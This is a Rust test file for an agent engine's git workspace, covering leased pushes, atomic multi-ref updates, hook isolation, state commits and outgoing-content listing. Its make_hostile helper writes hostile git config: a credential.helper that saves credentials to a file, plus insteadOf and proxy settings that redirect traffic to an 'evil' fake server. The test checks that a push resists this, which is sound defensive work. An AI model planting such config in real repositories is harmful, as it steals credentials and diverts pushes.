//! Pushing, fetching and the engine's files as commits.

use crate::support::{Fixture, git, try_git};
use jiff::Timestamp;
use ralph_loop_domain::ports::{
    GitRemote, Lease, Outgoing, OutgoingPart, OutgoingSide, Publisher as _, Push, PushEnd, StateFile,
    Workspace,
};
use ralph_loop_git::{GitWorkspace, fetch, path_remote};
use ralph_loop_protocol::id::CommitId;
use ralph_loop_testkit::fake_github::FakeGitHub;
use std::path::PathBuf;

const STATE: &str = "refs/ralph/r1/state";

/// A bare repo next to the fixture's.
fn bare(fixture: &Fixture, init: &[&str]) -> (PathBuf, GitRemote) {
    let path = fixture.dir.path().canonicalize().unwrap().join("remote.git");
    let place = path.display().to_string();
    git(&fixture.top, &[&["init", "-q", "--bare", "-b", "main"], init, &[&place]].concat());
    (path.clone(), path_remote(&path))
}

fn commit(fixture: &Fixture, text: &str) -> CommitId {
    fixture.write("a.txt", text);
    fixture.git(&["commit", "-qam", text.trim()]);
    CommitId::new(fixture.git(&["rev-parse", "HEAD"]))
}

fn to(commit: &CommitId, name: &str, lease: Lease) -> Push {
    Push { commit: commit.clone(), name: name.into(), lease }
}

fn push_one(workspace: &mut GitWorkspace, remote: &GitRemote, push: Push) -> PushEnd {
    workspace.push(remote, &[push]).unwrap()
}

#[track_caller]
fn rejected(end: &PushEnd) -> &str {
    match end {
        PushEnd::Rejected { reason } => reason,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_lease_is_kept() {
    const ONE: &str = "refs/heads/one";
    for init in [&[][..], &["--object-format=sha256"]] {
        let fixture = Fixture::with(init);
        let (_, remote) = bare(&fixture, init);
        let mut workspace = fixture.workspace();
        let first = CommitId::new(fixture.git(&["rev-parse", "HEAD"]));
        assert_eq!(workspace.remote_ref(&remote, ONE).unwrap(), None);
        assert_eq!(push_one(&mut workspace, &remote, to(&first, ONE, Lease::Absent)), PushEnd::Pushed);
        assert_eq!(workspace.remote_ref(&remote, ONE).unwrap(), Some(first.clone()));
        // An earlier process that died has pushed already: success, whatever the lease.
        for lease in [
            Lease::Absent,
            Lease::FastForward,
            Lease::At(first.clone()),
            Lease::At(CommitId::new("0".repeat(first.as_str().len()))),
        ] {
            assert_eq!(push_one(&mut workspace, &remote, to(&first, ONE, lease)), PushEnd::Pushed);
        }
        let second = commit(&fixture, "2\n");
        let end = push_one(&mut workspace, &remote, to(&second, ONE, Lease::Absent));
        assert!(rejected(&end).contains("stale"), "{end:?}");
        assert_eq!(push_one(&mut workspace, &remote, to(&second, ONE, Lease::FastForward)), PushEnd::Pushed);
        fixture.git(&["reset", "-q", "--hard", first.as_str()]);
        let other = commit(&fixture, "other\n");
        let end = push_one(&mut workspace, &remote, to(&other, ONE, Lease::FastForward));
        assert!(rejected(&end).contains("non-fast-forward"), "{end:?}");
        rejected(&push_one(&mut workspace, &remote, to(&other, ONE, Lease::At(first))));
        assert_eq!(workspace.remote_ref(&remote, ONE).unwrap(), Some(second.clone()), "nothing was changed");
        assert_eq!(push_one(&mut workspace, &remote, to(&other, ONE, Lease::At(second))), PushEnd::Pushed);
        assert_eq!(workspace.remote_ref(&remote, ONE).unwrap(), Some(other));
    }
}

#[test]
fn all_refs_or_none() {
    let fixture = Fixture::new();
    let (_, remote) = bare(&fixture, &[]);
    let mut workspace = fixture.workspace();
    let first = commit(&fixture, "1\n");
    let second = commit(&fixture, "2\n");
    let both =
        |at: &CommitId, lease: Lease| [to(at, "refs/heads/one", lease), to(at, STATE, Lease::FastForward)];
    assert_eq!(workspace.push(&remote, &both(&first, Lease::Absent)).unwrap(), PushEnd::Pushed);
    rejected(&workspace.push(&remote, &both(&second, Lease::Absent)).unwrap());
    assert_eq!(
        workspace.remote_ref(&remote, STATE).unwrap(),
        Some(first.clone()),
        "the other one stayed, too"
    );
    assert_eq!(workspace.push(&remote, &both(&second, Lease::At(first))).unwrap(), PushEnd::Pushed);
    assert_eq!(workspace.remote_ref(&remote, STATE).unwrap(), Some(second));
}

#[test]
fn remote_hook_output_is_shown_and_local_hooks_do_not_run() {
    let fixture = Fixture::new();
    let (path, remote) = bare(&fixture, &[]);
    let hook = |folder: PathBuf, name: &str, text: &str| {
        std::fs::create_dir_all(&folder).unwrap();
        let file = folder.join(name);
        std::fs::write(&file, format!("#!/bin/sh\n{text}\n")).unwrap();
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    let marker = fixture.dir.path().join("ran");
    hook(fixture.top.join(".git/hooks"), "pre-push", &format!("touch {}; exit 1", marker.display()));
    hook(path.join("hooks"), "update", "case $1 in refs/heads/locked) echo no entry >&2; exit 1;; esac");
    let mut workspace = fixture.workspace();
    let head = commit(&fixture, "1\n");
    let end = push_one(&mut workspace, &remote, to(&head, "refs/heads/locked", Lease::Absent));
    assert!(rejected(&end).contains("hook declined"), "{end:?}");
    assert_eq!(
        push_one(&mut workspace, &remote, to(&head, "refs/heads/fine", Lease::Absent)),
        PushEnd::Pushed
    );
    assert!(!marker.exists(), "our hook ran");
}

#[test]
fn a_remote_that_is_not_there_is_unavailable() {
    let fixture = Fixture::new();
    let mut workspace = fixture.workspace();
    let head = commit(&fixture, "1\n");
    let nowhere = path_remote(&fixture.dir.path().join("nowhere.git"));
    let end = push_one(&mut workspace, &nowhere, to(&head, "refs/heads/one", Lease::Absent));
    assert!(matches!(end, PushEnd::Unavailable { .. }), "{end:?}");
    let error = workspace.remote_ref(&nowhere, "refs/heads/one").unwrap_err();
    assert!(error.reason.contains("does not appear to be a git repository"), "{error}");
    // Nothing listens on a port that was free a moment ago.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let closed = GitRemote { url: format!("http://127.0.0.1:{port}/o/r.git"), login: None };
    let end = push_one(&mut workspace, &closed, to(&head, "refs/heads/one", Lease::Absent));
    assert!(matches!(end, PushEnd::Unavailable { .. }), "{end:?}");
}

/// What an agent may write into `.git/config` to see the token or the work.
fn make_hostile(fixture: &Fixture, host: &FakeGitHub, evil: &FakeGitHub) -> PathBuf {
    let marker = fixture.dir.path().canonicalize().unwrap().join("stolen");
    let thief = format!("!f() {{ cat > {}; echo username=x; echo password=y; }}; f", marker.display());
    for (key, value) in [
        (format!("url.{}/.insteadOf", evil.url()), format!("{}/", host.url())),
        (format!("url.{}/.pushInsteadOf", evil.url()), format!("{}/", host.url())),
        ("credential.helper".into(), thief.clone()),
        (format!("credential.{}.helper", host.url()), thief.clone()),
        ("http.proxy".into(), evil.url()),
        (format!("http.{}.proxy", host.url()), evil.url()),
        ("core.askPass".into(), format!("touch {}", marker.display())),
        ("core.gitProxy".into(), format!("touch {}", marker.display())),
        ("push.followTags".into(), "true".into()),
        ("http.extraHeader".into(), "Authorization: Basic eDp5".into()),
    ] {
        fixture.git(&["config", &key, &value]);
    }
    marker
}

#[test]
fn agents_git_config_does_not_affect_a_push() {
    let fixture = Fixture::new();
    let (host, evil) = (FakeGitHub::start().unwrap(), FakeGitHub::start().unwrap());
    let remote = GitRemote { url: host.git_url(), login: Some(("x-access-token".into(), host.token())) };
    let mut workspace = fixture.workspace();
    let head = commit(&fixture, "1\n");
    let marker = make_hostile(&fixture, &host, &evil);
    assert_eq!(
        push_one(&mut workspace, &remote, to(&head, "refs/heads/one", Lease::Absent)),
        PushEnd::Pushed
    );
    assert_eq!(host.branch("one").as_deref(), Some(head.as_str()));
    assert_eq!(workspace.remote_ref(&remote, "refs/heads/one").unwrap(), Some(head.clone()));
    let spec = "+refs/heads/one:refs/ralph/r1/fetched".to_owned();
    fetch(&fixture.repo(), &remote, &[spec]).unwrap();
    assert_eq!(fixture.git(&["rev-parse", "refs/ralph/r1/fetched"]), head.as_str());
    assert_eq!(evil.seen(), [], "the other server was asked");
    assert!(!marker.exists(), "a program of the agent's ran: {:?}", std::fs::read_to_string(&marker));
}

#[test]
fn a_login_is_for_its_host_and_leaves_no_trace() {
    let fixture = Fixture::new();
    let host = FakeGitHub::start().unwrap();
    let mut workspace = fixture.workspace();
    let head = commit(&fixture, "1\n");
    let wrong = "tok-secret-knows";
    let remote = GitRemote { url: host.git_url(), login: Some(("x-access-token".into(), wrong.into())) };
    let end = push_one(&mut workspace, &remote, to(&head, "refs/heads/one", Lease::Absent));
    let PushEnd::Denied { reason } = &end else { panic!("{end:?}") };
    assert!(!reason.contains(wrong), "{reason}");
    let error = workspace.remote_ref(&remote, "refs/heads/one").unwrap_err();
    assert!(!error.to_string().contains(wrong), "{error}");
    let anonymous = GitRemote { login: None, ..remote };
    let end = push_one(&mut workspace, &anonymous, to(&head, "refs/heads/one", Lease::Absent));
    assert!(matches!(end, PushEnd::Denied { .. }), "{end:?}");
    let (_, found) = try_git(&fixture.top, &["grep", "-l", "--no-index", "tok-secret", "--", "."]);
    assert_eq!(found, "");
}

fn file(path: &str, text: &str) -> StateFile {
    StateFile { path: path.into(), bytes: text.as_bytes().to_vec() }
}

fn at(second: i64) -> Timestamp {
    Timestamp::from_second(1_700_000_000 + second).unwrap()
}

#[test]
fn the_same_state_is_the_same_commit() {
    let fixture = Fixture::new();
    fixture.write("a.txt", "dirty\n");
    let (mut workspace, baseline) = fixture.begun();
    let before = fixture.git(&["status", "--porcelain=v1"]);
    let files = [file("run/state.json", "{}\n"), file("run.txt", "x\n"), file("run/a/b", "deep\n")];
    let first = workspace.save_state(&files, "state", at(1)).unwrap();
    assert_eq!(fixture.names(first.as_str()), ["run.txt", "run/a/b", "run/state.json"]);
    assert_eq!(fixture.show(first.as_str(), "run/a/b"), "deep");
    // In another order, at another time, by another process.
    let mut turned = files.clone();
    turned.reverse();
    assert_eq!(workspace.save_state(&turned, "state", at(2)).unwrap(), first);
    drop(workspace);
    let mut workspace = fixture.reopened(&baseline);
    assert_eq!(workspace.save_state(&files, "state", at(3)).unwrap(), first);
    let second = workspace.save_state(&[file("run/state.json", "{1}\n")], "state 2", at(4)).unwrap();
    assert_eq!(fixture.git(&["rev-parse", &format!("{second}^")]), first.as_str());
    assert_eq!(fixture.git(&["rev-parse", STATE]), second.as_str());
    assert_eq!(fixture.names(second.as_str()), ["run/state.json"]);
    assert!(fixture.git(&["log", "-1", "--format=%B", STATE]).contains("Ralph-Run: r1"));
    fixture.git(&["fsck", "--strict"]);
    assert!(workspace.moved_refs().unwrap().is_empty(), "our own ref isn't reported");
    assert_eq!(fixture.git(&["status", "--porcelain=v1"]), before);
}

#[test]
fn another_machine_resumes_from_the_pushed_state() {
    let here = Fixture::new();
    let (_, remote) = bare(&here, &[]);
    let (mut workspace, _) = here.begun();
    let head = CommitId::new(here.git(&["rev-parse", "HEAD"]));
    let state = workspace.save_state(&[file("events.jsonl", "1\n")], "state", at(1)).unwrap();
    let pushes = [to(&head, "refs/heads/one", Lease::Absent), to(&state, STATE, Lease::FastForward)];
    assert_eq!(workspace.push(&remote, &pushes).unwrap(), PushEnd::Pushed);

    let there = Fixture::new();
    let specs = [format!("+{STATE}:{STATE}"), "+refs/heads/one:refs/heads/one".to_owned()];
    fetch(&there.repo(), &remote, &specs).unwrap();
    assert_eq!(there.git(&["rev-parse", STATE]), state.as_str());
    assert_eq!(there.show(STATE, "events.jsonl"), "1");
    assert_eq!(there.git(&["rev-parse", "refs/heads/one"]), head.as_str());
    there.git(&["fsck", "--strict"]);
    let mut workspace = there.workspace();
    workspace.begin(&[]).unwrap();
    assert_eq!(workspace.save_state(&[file("events.jsonl", "1\n")], "state", at(2)).unwrap(), state);
    let next = workspace.save_state(&[file("events.jsonl", "1\n2\n")], "state", at(3)).unwrap();
    assert_eq!(push_one(&mut workspace, &remote, to(&next, STATE, Lease::At(state))), PushEnd::Pushed);

    // Back on the first machine: a forced fetch takes newer commits, a missing ref is an error.
    fetch(&here.repo(), &remote, &[format!("+{STATE}:{STATE}")]).unwrap();
    assert_eq!(here.git(&["rev-parse", STATE]), next.as_str());
    fetch(&here.repo(), &remote, &[format!("+{STATE}:{STATE}")]).unwrap();
    let main = here.git(&["rev-parse", "main"]);
    let error = fetch(&here.repo(), &remote, &[format!("+{STATE}:refs/heads/main")]).unwrap_err();
    assert!(error.to_string().contains("refusing to fetch into"), "{error}");
    assert_eq!(here.git(&["rev-parse", "main"]), main, "the branch that is checked out stays");
    fetch(&here.repo(), &remote, &[format!("+{STATE}:refs/heads/other")]).unwrap();
    let error = fetch(&here.repo(), &remote, &["+refs/heads/none:refs/heads/none".to_owned()]).unwrap_err();
    assert!(error.to_string().contains("couldn't find remote ref refs/heads/none"), "{error}");
}

#[test]
fn a_worktree_and_a_shallow_clone_push_like_others() {
    let fixture = Fixture::new();
    let (path, remote) = bare(&fixture, &[]);
    let first = CommitId::new(fixture.git(&["rev-parse", "HEAD"]));
    commit(&fixture, "2\n");
    let mut workspace = fixture.workspace();
    let head = commit(&fixture, "3\n");
    assert_eq!(
        push_one(&mut workspace, &remote, to(&head, "refs/heads/main", Lease::Absent)),
        PushEnd::Pushed
    );
    let place = fixture.dir.path().canonicalize().unwrap();
    let (tree, shallow) = (place.join("tree"), place.join("shallow"));
    fixture.git(&["worktree", "add", "-q", &tree.display().to_string(), first.as_str()]);
    let url = format!("file://{}", path.display());
    fixture.git(&["clone", "-q", "--depth=1", &url, &shallow.display().to_string()]);
    for (folder, name) in [(tree, "refs/heads/tree"), (shallow, "refs/heads/shallow")] {
        std::fs::write(folder.join("new.txt"), "x\n").unwrap();
        git(&folder, &["add", "-A"]);
        git(&folder, &["commit", "-qm", "new"]);
        let made = CommitId::new(git(&folder, &["rev-parse", "HEAD"]));
        let other = Fixture { dir: tempfile::tempdir().unwrap(), top: folder };
        let mut workspace = other.workspace();
        assert_eq!(push_one(&mut workspace, &remote, to(&made, name, Lease::Absent)), PushEnd::Pushed);
        assert_eq!(git(&path, &["rev-parse", name]), made.as_str());
    }
    git(&path, &["fsck", "--strict"]);
}

/// What a push of `commit` would show: names and contents apart, and the longest piece.
fn shown(
    workspace: &GitWorkspace,
    commit: &CommitId,
    known: &[CommitId],
    side: OutgoingSide,
) -> Result<(Vec<Vec<u8>>, usize), ralph_loop_domain::ports::WorkspaceError> {
    let (mut all, mut longest) = (Vec::<Vec<u8>>::new(), 0);
    let commits = std::slice::from_ref(commit);
    workspace.outgoing(&Outgoing { commits, known, side }, &mut |part| match part {
        OutgoingPart::Name(name) => all.push(name.to_vec()),
        OutgoingPart::Content => all.push(Vec::new()),
        OutgoingPart::Bytes(bytes) => {
            longest = longest.max(bytes.len());
            all.last_mut().unwrap().extend_from_slice(bytes);
        }
    })?;
    Ok((all, longest))
}

fn holds(all: &[Vec<u8>], needle: &str) -> bool {
    // Only the end of large pieces: an unoptimized test is slow on megabytes.
    let ends = all.iter().map(|one| &one[one.len().saturating_sub(1 << 16)..]);
    { ends }.any(|end| end.windows(needle.len()).any(|part| part == needle.as_bytes()))
}

#[test]
fn everything_new_is_shown_before_a_push() {
    for init in [&[][..], &["--object-format=sha256"]] {
        let fixture = Fixture::with(init);
        let (_, remote) = bare(&fixture, init);
        let mut workspace = fixture.workspace();
        let first = CommitId::new(fixture.git(&["rev-parse", "HEAD"]));
        push_one(&mut workspace, &remote, to(&first, "refs/heads/main", Lease::Absent));
        let known = workspace.remote_commits(&remote).unwrap().unwrap();
        assert_eq!(known, std::slice::from_ref(&first));
        assert!(shown(&workspace, &first, &known, OutgoingSide::New).unwrap().0.is_empty());
        // Every commit counts, not only the last.
        fixture.write("on-the-way/name-of-a-file.txt", "written and removed");
        fixture.git(&["add", "-A"]);
        let author = "--author=Some Author <odd@example.com>";
        fixture.git(&["commit", author, "-qm", "subject\n\nbody-of-the-message"]);
        fixture.remove("on-the-way/name-of-a-file.txt");
        // Larger than any bound, and not text.
        let big = format!("\0{}needle-at-the-end", "\u{1}binary\0".repeat(5 << 20));
        fixture.write("big.bin", &big);
        fixture.git(&["add", "-A"]);
        fixture.git(&["commit", "-qm", "second"]);
        let last = CommitId::new(fixture.git(&["rev-parse", "HEAD"]));
        let (all, longest) = shown(&workspace, &last, &known, OutgoingSide::New).unwrap();
        for needle in [
            "written and removed",
            "on-the-way/name-of-a-file.txt",
            "Some Author",
            "body-of-the-message",
            "needle-at-the-end",
        ] {
            assert!(holds(&all, needle), "{needle}");
        }
        assert!(!holds(&all, "fn deep() {}"), "what the remote has is not read again");
        assert!(longest <= 64 * 1024, "{longest} bytes at once");
        let (base, _) = shown(&workspace, &last, &known, OutgoingSide::Base).unwrap();
        assert!(holds(&base, "fn deep() {}") && !holds(&base, "needle-at-the-end"));
        // An empty remote gets everything.
        let (all, _) = shown(&workspace, &last, &[], OutgoingSide::New).unwrap();
        assert!(holds(&all, "fn deep() {}"));
    }
}

#[test]
fn unreadable_objects_are_an_error() {
    let fixture = Fixture::new();
    let workspace = fixture.workspace();
    let last = commit(&fixture, "soon gone\n");
    let blob = fixture.git(&["rev-parse", "HEAD:a.txt"]);
    let file = fixture.top.join(".git/objects").join(&blob[..2]).join(&blob[2..]);
    std::fs::remove_file(file).unwrap();
    assert!(shown(&workspace, &last, &[], OutgoingSide::New).is_err());
    let unknown = CommitId::new("0123456789012345678901234567890123456789");
    assert!(shown(&workspace, &unknown, &[], OutgoingSide::New).is_err());
    let gone = GitRemote { url: "/does/not/exist".into(), login: None };
    assert!(matches!(workspace.remote_commits(&gone), Ok(Err(_))));
}
